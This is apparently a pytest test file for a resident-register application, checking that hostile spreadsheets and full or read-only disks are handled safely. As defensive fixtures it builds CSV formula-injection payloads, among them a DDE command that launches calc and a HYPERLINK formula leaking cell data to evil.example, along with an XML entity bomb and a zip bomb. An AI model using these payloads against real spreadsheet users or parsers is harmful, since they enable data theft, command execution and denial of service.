"""Hostile and broken files: formula injection, spreadsheet bombs, plaintext temp files,
full and read-only disks, and errors that name their real cause."""

from __future__ import annotations

import datetime
import errno
import io
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from psyroom import fileio
from psyroom.errors import PsyroomError
from psyroom.residents.importer import reader
from psyroom.spreadsheets import SheetData, csv_cell, save_xlsx

from .conftest import ADMIN, ADMIN_PASSWORD, Room, run_cli

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点这里")', "=cmd|' /C calc'!A0",
           "=1+1", "+1+1", "-2+3", "@SUM(1,1)", "|calc", "＝1+1"]
MARKER = "钱多多标记"


def hostile_csv(path: Path) -> Path:
    # A rejected row each (the ID number is wrong), every field hostile.
    lines = ["姓名,性别,身份证号码,家庭住址"]
    lines += [f'"{MARKER}{n}",男,12345,"{h.replace(chr(34), chr(34) * 2)}"'
              for n, h in enumerate(HOSTILE)]
    lines += [f'"{h.replace(chr(34), chr(34) * 2)}",男,12345,{MARKER}' for h in HOSTILE]
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def test_rejected_rows_file_holds_only_text_never_a_formula(room: Room, tmp_path: Path) -> None:
    residents = room.session.residents
    plan = residents.plan_import(hostile_csv(tmp_path / "hostile.csv"))
    assert residents.commit_import(plan).rejected == 2 * len(HOSTILE)
    out = tmp_path / "rejected.xlsx"
    assert residents.save_rejected_rows(plan, out) == 2 * len(HOSTILE)
    book = openpyxl.load_workbook(out)  # not read-only: formulas would show as data_type "f"
    ws = book.active
    values = []
    for row in ws.iter_rows():
        for cell in row:
            if cell.value is None:
                continue
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert cell.quotePrefix, cell.coordinate
            values.append(cell.value)
    for h in HOSTILE:
        assert values.count(h) == 2
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    # Row numbers and ID numbers stay text as well.
    assert ws["A2"].value == "2" and ws["E2"].value == "12345"


def test_csv_cells_get_an_apostrophe_before_a_formula_start() -> None:
    assert [csv_cell(h)[0] for h in HOSTILE] == ["'"] * len(HOSTILE)
    assert csv_cell("钱一") == "钱一" and csv_cell(None) == "" and csv_cell(12) == "12"


@pytest.fixture
def opened_for_writing() -> Iterator[list[str]]:
    """Every file this process opens for writing while the fixture is active (audit hook)."""
    seen: list[str] = []
    active = [True]

    def hook(event: str, args: tuple[object, ...]) -> None:
        if event == "open" and active[0] and isinstance(args[0], str | bytes | Path):
            mode, flags = args[1], args[2]
            writing = (isinstance(mode, str) and any(c in mode for c in "wax+")) or (
                isinstance(flags, int) and flags & 0o3)
            if writing:
                seen.append(str(args[0]))

    sys.addaudithook(hook)
    yield seen
    active[0] = False


def test_rejected_rows_never_touch_a_temp_folder(room: Room, tmp_path: Path,
                                                 opened_for_writing: list[str]) -> None:
    residents = room.session.residents
    plan = residents.plan_import(hostile_csv(tmp_path / "hostile.csv"))
    target = tmp_path / "usb"
    target.mkdir()
    opened_for_writing.clear()
    residents.save_rejected_rows(plan, target / "rejected.xlsx")
    written = [p for p in opened_for_writing if not p.endswith((".db", "-wal", "-shm",
                                                                "-journal"))]
    assert written and all(Path(p).parent == target for p in written), written
    assert [p.name for p in target.iterdir()] == ["rejected.xlsx"]


# -- spreadsheet bombs ---------------------------------------------------------------------
def _xlsx_with_sheet(path: Path, sheet_xml: str, shared: str | None = None) -> Path:
    book = openpyxl.Workbook()
    book.active.append(["姓名"])
    buf = io.BytesIO()
    book.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = sheet_xml.encode("utf-8")
            if shared is not None and item.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" '
                                    b'ContentType="application/vnd.openxmlformats-officedocume'
                                    b'nt.spreadsheetml.sharedStrings+xml"/></Types>')
            if shared is not None and item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdS" Type="http:'
                                    b'//schemas.openxmlformats.org/officeDocument/2006/relation'
                                    b'ships/sharedStrings" Target="sharedStrings.xml"/>'
                                    b"</Relationships>")
            out.writestr(item, data)
        if shared is not None:
            out.writestr("xl/sharedStrings.xml", shared)
    return path


SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
              'openxmlformats.org/spreadsheetml/2006/main">')


def test_a_sheet_declaring_the_whole_grid_is_refused_before_reading(tmp_path: Path) -> None:
    bomb = _xlsx_with_sheet(tmp_path / "bomb.xlsx", SHEET_HEAD + '<dimension ref="A1:XFD10485'
                            '76"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>姓名'
                            '</t></is></c></row></sheetData></worksheet>')
    assert bomb.stat().st_size < 10_000
    with pytest.raises(PsyroomError) as err:
        reader.read_file(bomb)
    assert err.value.code == "import_too_many_rows"
    assert "250,000" in err.value.message("zh_CN")


def test_one_cell_in_column_xfd_is_refused_at_once(tmp_path: Path) -> None:
    # The dimension lies (A1:B2); each row reaches column XFD (16,384) on 200,000 rows.
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>钱{r}</t></is></c>'
                   f'<c r="XFD{r}" t="inlineStr"><is><t>x</t></is></c></row>'
                   for r in range(1, 200_001))
    bomb = _xlsx_with_sheet(tmp_path / "wide.xlsx", SHEET_HEAD + '<dimension ref="A1:B2"/>'
                            f"<sheetData>{rows}</sheetData></worksheet>")
    with pytest.raises(PsyroomError) as err:
        reader.read_file(bomb)
    assert err.value.code == "import_too_many_columns"


ENTITY_BOMB = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
               + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                         for i in range(1, 10))
               + ']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
               'count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')


def test_an_entity_bomb_is_refused_unexpanded(room: Room, tmp_path: Path) -> None:
    bomb = _xlsx_with_sheet(tmp_path / "lol.xlsx", SHEET_HEAD + '<sheetData><row r="1">'
                            '<c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>',
                            shared=ENTITY_BOMB)
    with pytest.raises(PsyroomError) as err:
        reader.read_file(bomb)
    assert err.value.code == "import_xml_unsafe"
    room.session.close()
    cli = run_cli("residents", "import", str(bomb), data_dir=room.dir)
    assert cli.returncode == 1 and "不安全" in cli.stderr and "意外" not in cli.stderr
    room.session = room.inst.unlock(ADMIN, ADMIN_PASSWORD)


def test_broken_xml_and_a_10_mb_cell_say_what_is_wrong(room: Room, tmp_path: Path) -> None:
    broken = _xlsx_with_sheet(tmp_path / "broken.xlsx", SHEET_HEAD + "<sheetData><row r=")
    big = tmp_path / "big.csv"
    big.write_text("姓名,备注\n钱一," + "很" * (10 * 1024 * 1024 // 3) + "\n", encoding="utf-8")
    big_xlsx = _xlsx_with_sheet(tmp_path / "big.xlsx", SHEET_HEAD + '<sheetData><row r="1">'
                                '<c r="A1" t="inlineStr"><is><t>' + "很" * 3_500_000
                                + "</t></is></c></row></sheetData></worksheet>")
    room.session.close()
    expect = {broken: "XML 已损坏", big: "超过 32,767 个字符", big_xlsx: "超过 32,767 个字符"}
    for path, words in expect.items():
        cli = run_cli("residents", "import", str(path), data_dir=room.dir)
        assert cli.returncode == 1, cli.stderr
        assert words in cli.stderr and "意外" not in cli.stderr, cli.stderr
    room.session = room.inst.unlock(ADMIN, ADMIN_PASSWORD)


# -- disks that are full, read-only or closed to us ------------------------------------------
@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A real, tiny file system (needs root to mount)."""
    mount_point = tmp_path / "disk"
    mount_point.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", str(mount_point)],
                          capture_output=True)
    if done.returncode != 0:
        pytest.skip("cannot mount a small file system here (not root)")
    try:
        yield mount_point
    finally:
        subprocess.run(["umount", "-l", str(mount_point)], capture_output=True)


def _fill(disk: Path) -> Path:
    filler = disk / "filler"
    # Unbuffered: a buffered file that hit ENOSPC mid-write keeps the rest and fails again on
    # close, depending on how much room the data folder happened to leave.
    with open(filler, "wb", buffering=0) as fh:
        try:
            while True:
                fh.write(b"\0" * 65536)
        except OSError as exc:
            assert exc.errno == errno.ENOSPC
    return filler


def test_stats_on_a_full_or_read_only_disk_never_says_damaged(small_disk: Path) -> None:
    from psyroom.installation import Installation

    data = small_disk / "data"
    inst = Installation(data)
    inst.initialise(site_kind="room", room_type="village", site_code="BC-01", site_name="北城",
                    admin_name=ADMIN, admin_password=ADMIN_PASSWORD).session.close()
    filler = _fill(small_disk)
    full = run_cli("stats", data_dir=data)
    assert full.returncode == 1 and full.stderr.count("\n") == 1
    assert "磁盘空间不足" in full.stderr
    assert "损坏" not in full.stderr.replace("没有损坏", "") and "恢复" not in \
        full.stderr.replace("不需要恢复", "")
    filler.unlink()
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
    try:
        ro = run_cli("stats", data_dir=data)
        assert ro.returncode == 1 and "只读" in ro.stderr, ro.stderr
        assert "意外" not in ro.stderr
    finally:
        subprocess.run(["mount", "-o", "remount,rw", str(small_disk)], check=True)
    ok = run_cli("stats", "--json", data_dir=data)
    assert ok.returncode == 0, ok.stderr


def test_rejected_rows_to_a_full_disk_says_so(room: Room, tmp_path: Path,
                                             small_disk: Path) -> None:
    residents = room.session.residents
    plan = residents.plan_import(hostile_csv(tmp_path / "hostile.csv"))
    _fill(small_disk)
    with pytest.raises(PsyroomError) as err:
        residents.save_rejected_rows(plan, small_disk / "rejected.xlsx")
    assert err.value.code == "disk_full"
    assert [p.name for p in small_disk.iterdir()] == ["filler"]


def test_shared_writer_is_text_only_unless_a_sheet_asks_for_numbers(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    spool = tmp_path / "spool"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))
    rows = [["项目", "数"], ["=SUM(B3:B4)", 3], ["+1", 2.5], ["@x", True], ["钱一", None]]
    out = save_xlsx(tmp_path / "book.xlsx", [SheetData("文本", rows),
                                               SheetData("数字", rows, numbers=True)])
    assert list(spool.iterdir()) == []  # no sheet spooled through a temp file in the clear
    book = openpyxl.load_workbook(out)
    text, numbers = book["文本"], book["数字"]
    assert [(c.value, c.data_type) for c in text["B"]] == [
        ("数", "s"), ("3", "s"), ("2.5", "s"), ("True", "s"), (None, "n")]
    assert [(c.value, c.data_type) for c in numbers["B"][1:3]] == [(3, "n"), (2.5, "n")]
    assert numbers["B4"].value == "True" and numbers["B4"].data_type == "s"
    for ws in (text, numbers):
        assert [(c.value, c.data_type, c.quotePrefix) for c in ws["A"][1:4]] == [
            ("=SUM(B3:B4)", "s", True), ("+1", "s", True), ("@x", "s", True)]
    with zipfile.ZipFile(out) as z:
        assert not any("<f>" in z.read(n).decode("utf-8") for n in z.namelist()
                       if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize(("code", "expected"), [(errno.ENOSPC, "disk_full"),
                                                (errno.EROFS, "read_only_media"),
                                                (errno.EACCES, "no_permission")])
def test_each_disk_error_has_its_own_message(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                             code: int, expected: str) -> None:
    # Root ignores file modes here, so the refusal is raised where the OS would raise it.
    def refuse(*_args: object, **_kwargs: object) -> None:
        raise OSError(code, "refused")

    monkeypatch.setattr(fileio.os, "replace", refuse)
    with pytest.raises(PsyroomError) as err:
        save_xlsx(tmp_path / "out.xlsx", [SheetData("s", [["钱一"]])])
    assert err.value.code == expected
    for language in ("zh_CN", "en"):
        message = err.value.message(language)
        assert "恢复备份" not in message.replace("不需要恢复备份", "")
        assert "Restore from" not in message
    assert list(tmp_path.iterdir()) == []


def test_rejected_out_to_a_folder_or_bad_path_is_refused_before_the_import(
        room: Room, tmp_path: Path) -> None:
    register = tmp_path / "mixed.csv"
    register.write_text("姓名,性别,身份证号码\n钱一,男,\n孙二,女,12345\n", encoding="utf-8")
    folder = tmp_path / "out"
    folder.mkdir()
    room.session.close()
    for target, words in ((folder, "是一个文件夹"), (tmp_path / "nope" / "r.xlsx", "不存在")):
        cli = run_cli("residents", "import", str(register), "--rejected-out", str(target),
                      data_dir=room.dir)
        assert cli.returncode == 1 and words in cli.stderr, cli.stderr
    room.session = room.inst.unlock(ADMIN, ADMIN_PASSWORD)
    assert room.session.residents.count() == 0
    cli_ok = run_cli("residents", "import", str(register), "--rejected-out",
                     str(folder / "r.xlsx"), data_dir=room.dir)
    assert cli_ok.returncode == 0, cli_ok.stderr
    assert (folder / "r.xlsx").exists()


def test_verify_on_a_damaged_page_prints_the_details_itself(room: Room) -> None:
    s = room.session
    for _ in range(400):
        s.record_lock()
    s.close()
    db_path = room.dir / "psyroom.db"
    data = bytearray(db_path.read_bytes())
    pages = len(data) // 4096
    data[(pages - 3) * 4096 + 1000] ^= 0x01
    db_path.write_bytes(bytes(data))
    result = run_cli("verify", data_dir=room.dir)
    assert result.returncode == 1
    assert f"HMAC verification failed for page {pages - 2}" in result.stdout
    assert "运行" not in result.stderr and "校验失败" in result.stderr
    assert result.stderr.count("\n") == 1
    # A counsellor may not run it even so (the users table is still readable).
    wrong = run_cli("verify", data_dir=room.dir, password="Wrong-pass1")
    assert wrong.returncode == 1 and "HMAC" not in wrong.stdout


def test_a_zip_that_unpacks_past_the_limit_is_refused_early(tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    # 40 MB of rows packed into well under 1 MB; the limit is lowered so the test stays small.
    monkeypatch.setattr(reader, "MAX_XML_BYTES", 8 * 1024 * 1024)
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>' + (
        "<row/>" * (40 * 1024 * 1024 // 6))
    bomb = _xlsx_with_sheet(tmp_path / "zipbomb.xlsx",
                            SHEET_HEAD + f"<sheetData>{rows}</sheetData></worksheet>")
    assert bomb.stat().st_size < 1024 * 1024
    with pytest.raises(PsyroomError) as err:
        reader.read_file(bomb)
    assert err.value.code == "import_too_big"


# -- which parser reads a part -------------------------------------------------------------
@pytest.mark.parametrize(("head", "plain"), [
    (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<worksheet>', True),
    (b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-8'?><sst>", True),
    (b'<?xml version="1.0"?><sst>', True),
    (b"<worksheet>", True),
    (b'<?xml version="1.0" encoding="UTF-16"?><sst>', False),
    (b'<?xml version="1.0" encoding="cp037"?><sst>', False),
    ("<?xml version='1.0'?><sst>".encode("utf-16"), False),
    (b'<?xml version="1.0"?><!DOCTYPE sst><sst>', False),
    (b'<?xml version="1.0"', False),
])
def test_only_plain_utf8_parts_without_a_dtd_go_to_the_c_parser(head: bytes, plain: bool
                                                                 ) -> None:
    check = reader._PartCheck()
    check.feed(head)
    check.feed(b"<row/>" * 10)
    assert check.plain is plain


def test_a_dtd_split_across_two_chunks_is_still_seen() -> None:
    check = reader._PartCheck()
    check.feed(b'<?xml version="1.0"?><sst><!DOC')
    check.feed(b"TYPE x><si/></sst>")
    assert not check.plain


def test_a_register_reads_the_same_through_either_parser(tmp_path: Path) -> None:
    """Shared strings, inline strings, numbers, dates and rich text: the C parser (plain parts)
    and defusedxml's (anything else) give the very same rows."""
    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont

    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["台账"])
    ws.append(["姓名", "出生日期", "身份证号码", "联系电话", "备注"])
    ws.append(["王德福", datetime.date(1948, 3, 5), "14080219480305001X", 13912345678, 1951.02])
    ws.append([CellRichText("东关村", TextBlock(InlineFont(b=True), "5组")), None, 1.5, True,
               " 前后 "])
    plain = tmp_path / "plain.xlsx"
    book.save(plain)
    # The same workbook with a harmless DTD in its sheet: defusedxml reads that.
    dtd = tmp_path / "dtd.xlsx"
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(dtd, "w") as out:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                head, _, body = data.rpartition(b"?>")
                data = head + b"?>" + b"<!DOCTYPE worksheet>" + body if head else \
                    b"<!DOCTYPE worksheet>" + body
            out.writestr(item, data)
    assert reader._check_parts(plain).plain and not reader._check_parts(dtd).plain
    rows = reader.read_xlsx(plain)[0].rows
    assert rows == reader.read_xlsx(dtd)[0].rows
    assert rows[2][1][:3] == ["王德福", datetime.datetime(1948, 3, 5), "14080219480305001X"]
    assert rows[3][1][0] == "东关村5组"


# -- which reader reads a sheet --------------------------------------------------------------
def _sheet(rows: str, dimension: str = "") -> bytes:
    return (SHEET_HEAD + dimension + f"<sheetData>{rows}</sheetData></worksheet>").encode()


ORDINARY = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>钱{r}</t></is></c>'
                   f'<c r="I{r}"><v>{r}</v></c></row>' for r in range(1, 2001))


@pytest.mark.parametrize(("xml", "fits"), [
    (_sheet(ORDINARY, '<dimension ref="A1:I2000"/>'), True),
    (_sheet('<row r="1"><c r="GR1"><v>1</v></c></row>'), True),  # column 200
    (_sheet('<row r="1"><c r="GS1"><v>1</v></c></row>'), False),  # column 201
    (_sheet('<row r="1"><c r="AAA1"><v>1</v></c></row>'), False),
    # A cell's own number places it, not the row it sits in.
    (_sheet('<row r="1"><c r="A1"><v>1</v></c><c r="B999999"><v>1</v></c></row>'), False),
    (_sheet('<row r="1"><c r="A1"><v>1</v></c><c r="AB99999"><v>1</v></c></row>'), True),
    (_sheet('<row r="1"><c r="A1"><v>1</v></c><c r="GR99999"><v>1</v></c></row>'), False),
    (_sheet('<row r="1"><c r="A1"><v>1</v></c></row>', '<dimension ref="A1:XFD1048576"/>'),
     False),
    (_sheet('<row r="1"><c r="A1"><v>1</v></c></row>', '<dimension ref="A1:B2:"/>'), False),
    # Placed by counting (no number of their own), or written in a form not looked for.
    (_sheet('<row r="1"><c><v>1</v></c></row>'), False),
    (_sheet('<row r="1"><c t="n"><v>1</v></c></row>'), False),
    (_sheet('<row><c r="A1"><v>1</v></c></row>'), False),
    (_sheet("<row r='1'><c r='A1'><v>1</v></c></row>"), False),
    # An Excel error (#N/A): calamine would read it as empty.
    (_sheet('<row r="1"><c r="A1" t="e"><v>#N/A</v></c></row>'), False),
    (_sheet('<row r="1"><c r="A1" s="2" t="e"><v>#REF!</v></c></row>'), False),
    (_sheet('<row r="1"><c r="A1" t="str"><v>e</v></c></row>'), True),
    (SHEET_HEAD.replace("<worksheet xmlns=", "<x:worksheet xmlns:x=").encode()
     + b'<x:sheetData><x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row></x:sheetData>'
       b"</x:worksheet>", False),
])
def test_calamine_reads_only_sheets_that_provably_make_a_small_block(xml: bytes, fits: bool
                                                                     ) -> None:
    from psyroom.residents.importer import calamine

    assert calamine.sheet_fits(xml, reader.MAX_ROWS, reader.MAX_COLUMNS) is fits


def test_registers_read_the_same_by_calamine_and_by_openpyxl(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from psyroom.residents.importer import calamine

    samples = sorted((Path(__file__).parents[1] / "fixtures" / "registers").glob("*.xlsx"))
    made = tmp_path / "made.xlsx"
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "台账"
    ws["C3"] = "从第三行第三列起"
    ws.append(["姓名", datetime.date(1951, 2, 3), 110101900101001, 1.10101199001011e17,
               13912345678, 1951.02, 1951.1, True, datetime.time(8, 30), "=1+1", " 空格 "])
    book.create_sheet("空白")
    book.save(made)
    for path in [*samples, made]:
        assert reader._check_parts(path).calamine, path
        fast = reader.read_xlsx(path)
        with monkeypatch.context() as m:
            m.setattr(calamine, "available", lambda: False)
            assert reader.read_xlsx(path) == fast, path
    rows = reader.read_xlsx(made)[0].rows
    assert rows[2] == (3, [None, None, "从第三行第三列起", *[None] * 8])
    # A looked-up ID that failed (#N/A) reads as its text, as openpyxl gives it: the import
    # then refuses the row instead of taking it without an ID number.
    ws.append(["钱一", None, "#N/A"])
    book.save(made)
    assert not reader._check_parts(made).calamine
    assert reader.read_xlsx(made)[0].rows[-1][1][:3] == ["钱一", None, "#N/A"]
    assert rows[3][1][:6] == ["姓名", datetime.datetime(1951, 2, 3), 110101900101001,
                              1.10101199001011e17, 13912345678, 1951.02]
